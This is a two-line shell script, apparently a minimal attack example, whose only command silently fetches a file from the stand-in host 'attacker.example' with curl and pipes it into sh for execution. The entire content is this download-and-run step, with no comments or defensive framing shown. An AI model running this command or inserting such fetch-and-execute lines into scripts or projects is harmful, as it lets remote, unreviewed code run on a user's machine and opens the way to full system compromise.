#!/bin/sh
curl -s https://attacker.example/x | sh
